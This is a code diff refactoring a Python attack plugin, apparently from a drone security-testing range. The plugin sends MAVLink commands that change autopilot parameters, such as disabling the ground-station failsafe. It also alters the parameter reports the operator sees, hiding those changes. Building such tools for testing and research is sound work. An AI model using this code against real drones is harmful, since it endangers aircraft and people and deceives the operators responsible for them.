@@ -3,14 +3,10 @@
 from __future__ import annotations
 
 from dataclasses import replace
-from typing import Annotated
-
-from pydantic import Field
 
 import skyrange.plugin as sky
-from skyrange.attack.bases.mavlink.orders import rewrite
+from skyrange.attack.bases.mavlink.orders import replace_message
 from skyrange.attack.bases.mavlink.params import ParameterValues
-from skyrange.codec.mavlink import dialect as mav
 
 
 @sky.attack(
@@ -29,18 +25,14 @@ class ParameterTampering(sky.Injection):
 
     reads = ("PARAM_VALUE",)
 
-    values: Annotated[ParameterValues, Field(min_length=1)] = sky.param(
-        "New values by parameter, such as { FS_GCS_ENABLE = 0, WPNAV_SPEED = 2000 }."
+    values: ParameterValues = sky.param(
+        "New values by parameter, such as { FS_GCS_ENABLE = 0, WPNAV_SPEED = 2000 }.", min_length=1
     )
     shown: ParameterValues = sky.param(
-        "Values that the operator is shown instead, by parameter: PARAM_VALUE is altered on its way to the station. "
-        "Default: none is altered.",
-        default={},
+        "Values that the operator is shown instead, by parameter: PARAM_VALUE is altered on its way.", default={}
     )
     every_s: sky.Number = sky.param("Time between two rounds, in seconds.", default=1.0, ge=0.05, le=3600)
-    times: sky.Whole = sky.param(
-        "Number of rounds in which all are set; 0 is until the attack stops.", default=3, ge=0, le=100_000
-    )
+    times: sky.Whole = sky.param("Number of rounds; 0 is until the attack stops.", default=3, ge=0, le=100_000)
 
     def build(self, context: sky.AttackContext) -> sky.Attack:
         """Its taps; no other attack may show other values there."""
@@ -50,20 +42,17 @@ class ParameterTampering(sky.Injection):
 
     def orders(self, now: sky.Time) -> list[sky.MavlinkMessage]:
         # autopilots convert by the type that they know, whatever the message says (GCS_Param.cpp, handle_param_set)
-        kind = mav.MAV_PARAM_TYPE_REAL32
+        kind = sky.mavlink.MAV_PARAM_TYPE_REAL32
         return [
-            mav.MAVLink_param_set_message(self.target, sky.AUTOPILOT, name.encode(), value, kind)
+            sky.mavlink.MAVLink_param_set_message(self.target, sky.AUTOPILOT, name.encode(), value, kind)
             for name, value in self.values.items()
         ]
 
     def on_message(self, now: sky.Time, message: sky.MavlinkMessage) -> sky.Verdicts:
-        """Put the shown value into a PARAM_VALUE on its way to the station; the sham sends it on as it is."""
         value = self.shown.get(message.param_id)
         if value is None:
             return ()
-        if self.sham:
-            return [sky.Replace(message.get_msgbuf())]
-        shown = mav.MAVLink_param_value_message(
+        shown = sky.mavlink.MAVLink_param_value_message(
             message.param_id.encode(), value, message.param_type, message.param_count, message.param_index
         )
-        return [sky.Replace(rewrite(message, shown))]
+        return [replace_message(message, shown, self.sham)]
